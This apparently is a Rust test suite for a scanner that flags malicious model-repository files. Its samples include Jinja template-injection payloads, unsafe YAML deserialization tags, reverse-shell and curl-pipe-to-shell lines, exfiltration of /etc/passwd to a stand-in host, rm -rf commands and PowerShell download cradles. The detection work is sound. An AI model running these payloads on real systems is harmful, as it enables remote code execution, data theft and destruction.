//! Attacks in what is no Python that are found, and files that are none.

mod told;

#[test]
fn templates_that_walk_or_never_end_are_refused() {
    let walks = [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ messages[0]['__class__'] }}",
        "{{ x|attr('__class__') }}",
        "{{ x|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
        "{{ x['__cl' + 'ass__'] }}",
        "{{ x['__cl' ~ 'ass__'] }}",
        "{{ x|attr(['__cl', 'ass__']|join) }}",
        "{{ x|attr('%sclass%s'|format('__', '__')) }}",
        "{{ x|attr('%c%cclass%c%c'|format(95, 95, 95, 95)) }}",
        "{{ x|attr('__ssalc__'|reverse) }}",
        "{{ x|attr(y) }}",
        "{% set a = '__' %}{{ x[a ~ 'globals' ~ a] }}",
        "{{ cycler.__init__.__globals__.os.popen('echo inert').read() }}",
        "{{ lipsum.__globals__['os'].popen('echo inert') }}",
        "{{ self._TemplateReference__context }}",
        "{{ messages|map(attribute='__class__')|list }}",
        "{{ '{0.__class__}'.format(x) }}",
        "{%- for m in messages %}{{ m.popen('echo inert') }}{% endfor %}",
        "{% for i in range(10**9) %}x{% endfor %}",
        "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}",
        "{% set s = 'a' %}{% for i in range(64) %}{% set s = s ~ s %}{% endfor %}",
        "{{ 'a' * 1000000000 }}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{{ messages }}\u{202e}",
        "{{ dict(__class__=1)|join }}",
        "{{ ''[dict(__class__=1)|first] }}",
    ];
    let files: Vec<(&str, &str)> =
        walks.iter().map(|text| ("chat_template.jinja", *text)).collect();
    told::all_refused(&files);
    told::all_refused(&[
        ("tokenizer_config.json", r#"{"chat_template": "{{ ''.__class__ }}"}"#),
        (
            "tokenizer_config.json",
            r#"{"chat_template": [{"name": "default", "template": "{{ x.__init__ }}"}]}"#,
        ),
        ("tokenizer_config.json", r#"{"chat_template": "{{ x['\\u005f\\u005fclass__'] }}"}"#),
        ("chat_template.json", r#"{"chat_template": "{{ x.__globals__ }}"}"#),
    ]);
}

#[test]
fn templates_of_real_kinds_are_not_refused() {
    told::none_refused(&[
        (
            "chat_template.jinja",
            "{%- set ns = namespace(found=false, _x=1) -%}{% for message in messages %}{% if loop.first and message['role'] == 'system' %}{{ bos_token + message['content'] | trim }}{% endif %}{% generation %}{{ message.content }}{% endgeneration %}{% endfor %}{{ raise_exception('x') if not messages else '' }}{{ strftime_now('%d %b %Y') }}{{ tools | tojson(indent=4) }}",
        ),
        (
            "chat_template.jinja",
            "{% for i in range(messages|length - 1, -1, -1) %}{{ messages[i].content.split('</think>')[-1].lstrip('\\n') }}{% continue %}{% endfor %}",
        ),
        ("chat_template.jinja", "{{ '{% raw %}' }}{% raw %}{{ x.__class__ }}{% endraw %}"),
        ("page.html", "{% extends 'base.html' %}{% include 'nav.html' %}"),
        ("x.j2", "{% include 'other.j2' %}{{ ansible_managed | comment }}"),
    ]);
}

#[test]
fn configurations_that_run_code_are_refused() {
    told::all_refused(&[
        ("config.json", r#"{"auto_map": {"AutoModel": "someone/other--modeling.Model"}}"#),
        (
            "tokenizer_config.json",
            r#"{"auto_map": {"AutoTokenizer": ["someone/other--tok.T", null]}}"#,
        ),
        ("config.json", r#"{"auto_map": {"AutoModel": "../../x.Model"}}"#),
        ("modules.json", r#"[{"idx": 0, "type": "os.system"}]"#),
        ("modules.json", r#"[{"idx": 0, "type": "subprocess.Popen"}]"#),
        ("model_index.json", r#"{"_class_name": "X", "unet": ["os", "system"]}"#),
        (
            "adapter_config.json",
            r#"{"auto_mapping": {"parent_library": "subprocess", "base_model_class": "run"}}"#,
        ),
        ("x.json", r#"{"model": {"_target_": "os.system", "_args_": ["echo inert"]}}"#),
        ("x.yaml", "model:\n  _target_: builtins.eval\n  _args_: ['1']\n"),
        ("x.yaml", "model:\n  class_path: subprocess.Popen\n"),
        ("x.yaml", "a: &a\n  target: os.system\nb: *a\n"),
        (
            "x.json",
            r#"{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["echo inert"]}]}"#,
        ),
        ("model.safetensors.index.json", r#"{"weight_map": {"a": "../../etc/passwd"}}"#),
        ("generation_config.json", r#"{"custom_generate": "someone/other"}"#),
        ("package.json", r#"{"scripts": {"postinstall": "curl https://example.org/x | sh"}}"#),
        ("x.yaml", "!!python/object/apply:os.system ['echo inert']\n"),
        ("x.yaml", "a: !!python/object/new:subprocess.Popen [['echo']]\n"),
        ("x.yaml", "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['echo inert']\n"),
        (
            "x.yaml",
            "%TAG !e! tag:yaml.org,2002:python/\n---\na: !e!object/apply:os.system ['echo inert']\n",
        ),
        (
            "x.yaml",
            "%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system ['echo inert']\n",
        ),
        ("x.yaml", "a: !!python%2Fobject%2Fapply:os.system ['echo inert']\n"),
        ("x.yaml", "? !!python/object/apply:os.system ['echo inert']\n: 1\n"),
        ("x.yaml", "a: !!python/name:os.system\n"),
        ("x.yaml", "a: !!python/module:os\n"),
        ("x.yaml", "a: [\n!!python/object/apply:os.system ['echo inert']"),
        ("x.yaml", "a: !ruby/object:Gem::Installer\n  i: x\n"),
        ("x.yaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]\n"),
        ("data", "!!python/object/apply:os.system ['echo inert']\n"),
    ]);
}

#[test]
fn aliases_that_multiply_are_refused() {
    let mut bomb = String::from("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
    for level in 1..9 {
        let aliases = vec![format!("*a{}", level - 1); 10].join(", ");
        bomb.push_str(&format!("a{level}: &a{level} [{aliases}]\n"));
    }
    assert!(told::is_refused(&told::of("x.yaml", bomb)));
}

#[test]
fn configurations_of_real_kinds_are_not_refused() {
    told::none_refused(&[
        (
            "config.json",
            r#"{"architectures": ["X"], "auto_map": {"AutoModel": "modeling_x.Model"}, "model_type": "x"}"#,
        ),
        (
            "modules.json",
            r#"[{"idx": 0, "type": "sentence_transformers.models.Transformer"}, {"type": "custom_st.Transformer"}]"#,
        ),
        (
            "model_index.json",
            r#"{"_class_name": "X", "unet": ["diffusers", "UNet2DConditionModel"], "safety_checker": [null, null]}"#,
        ),
        (
            "x.yaml",
            "model:\n  _target_: mypackage.models.Net\n  optimizer:\n    _target_: torch.optim.Adam\n    lr: ${oc.env:LR}\n",
        ),
        ("x.yaml", "a: !Ref B\nb: !Sub '${A}'\nc: !!python/tuple [1, 2]\nd: !secret x\n"),
        (
            "mkdocs.yml",
            "e: !!python/name:material.extensions.emoji.twemoji\nf: !!python/object/apply:pymdownx.slugs.slugify {kwds: {case: lower}}\n",
        ),
        ("ci.yml", "on: push\njobs:\n  a:\n    steps:\n      - run: |\n          pip install x\n"),
        (
            "tokenizer.json",
            r#"{"normalizer": {"type": "NFC"}, "model": {"type": "BPE", "vocab": {"os.system": 1}}}"#,
        ),
        (
            "requirements.txt",
            "torch>=2\n--extra-index-url https://wheels.example.org/whl/cu121\nx @ git+https://github.com/a/b\n",
        ),
        ("broken.json", "{\"a\": "),
        ("x.json", r#"{"compilerOptions": {"target": "es5"}, "class": "a.b"}"#),
    ]);
}

#[test]
fn programs_and_scripts_are_judged_by_what_they_are() {
    let elf = [&b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0"[..], &[0; 64]].concat();
    let mut pe = vec![0; 256];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    for name in ["model.bin", "model.safetensors", "run", "x.exe", "config.json", "x.sh"] {
        assert!(told::is_refused(&told::of(name, elf.clone())), "{name}");
        assert!(told::is_refused(&told::of(name, pe.clone())), "{name}");
    }
    for name in ["x.so", "x.cpython-312-x86_64-linux-gnu.so", "libx.so.1"] {
        assert!(!told::is_refused(&told::of(name, elf.clone())), "{name}");
    }
    told::all_refused(&[
        ("x.sh", "#!/bin/sh\ncurl https://example.org/x | sudo bash\n"),
        ("x.sh", "#!/bin/sh\ncurl https://example.org/x \\\n | sh\n"),
        ("x.sh", "wget -O- https://example.org/x|sh"),
        ("x", "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"),
        ("x.sh", "rm -rf / --no-preserve-root\n"),
        ("x.sh", "rm -rf ~/*\n"),
        ("x.sh", "echo ZWNobyBpbmVydA== | base64 -d | sh\n"),
        ("x.sh", "nc -e /bin/sh 10.0.0.1 4444\n"),
        ("x.sh", "curl -d @/etc/passwd https://example.org\n"),
        ("x.sh", "eval \"$(curl -s https://example.org/x)\"\n"),
        ("x.ps1", "IEX (New-Object Net.WebClient).DownloadString('https://example.org/x')\n"),
        ("x.bat", "@echo off\npowershell -enc AAAA\n"),
        ("x.bat", "certutil -urlcache -f https://example.org/x x.exe\n"),
        ("x.vbs", "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"echo inert\"\n"),
        ("x.js", "eval(atob('YWxlcnQoMSk='))\n"),
        ("x.pth", "import os; os.system('echo inert')\n"),
        ("site/x.pth", "/a/b\nimport evil\n"),
        ("sitecustomize.py", "print(1)\n"),
        (".git/config", "[core]\n\tfsmonitor = \"echo inert\"\n"),
        (".git/config", "[core]\n\tsshCommand = echo inert\n"),
        (".git/hooks/pre-commit", "#!/bin/sh\necho inert\n"),
        ("x.desktop", "[Desktop Entry]\nExec=sh -c 'echo inert'\n"),
    ]);
    told::none_refused(&[
        (
            "x.sh",
            "#!/bin/bash\n# curl https://example.org | sh\nset -e\nrm -rf ./build\npython train.py --lr 1e-4 | tee log\n",
        ),
        ("Makefile", "install:\n\tcurl -sSf https://sh.rustup.rs | sh\n"),
        ("Dockerfile", "FROM x\nRUN curl -sSL https://install.python-poetry.org | python3 -\n"),
        (
            "distutils-precedence.pth",
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim()\n",
        ),
        ("x.html", "<!doctype html><script src=x.js></script>"),
        (
            ".git/config",
            "[core]\n\trepositoryformatversion = 0\n[remote \"origin\"]\n\turl = https://example.org/x\n[filter \"lfs\"]\n\tsmudge = git-lfs smudge -- %f\n",
        ),
    ]);
}

#[test]
fn compiled_python_is_judged_by_its_names() {
    let compiled = |strings: &[&str]| {
        let mut bytes = [&[0xcb, 0x0d, b'\r', b'\n'][..], &[0; 12], b"\xe3"].concat();
        for text in strings {
            bytes.extend([0xda, text.len() as u8]);
            bytes.extend(text.as_bytes());
        }
        bytes
    };
    let runs = compiled(&["os", "system", "echo inert"]);
    assert!(told::is_refused(&told::of("x.pyc", runs.clone())));
    assert!(told::is_refused(&told::of("model.bin", runs)));
    let plain = compiled(&["torch", "nn", "forward", "Usage:\n curl https://example.org/x | sh"]);
    let findings = told::of("x.pyc", plain);
    assert!(!told::is_refused(&findings) && !findings.is_empty(), "{findings:?}");
}
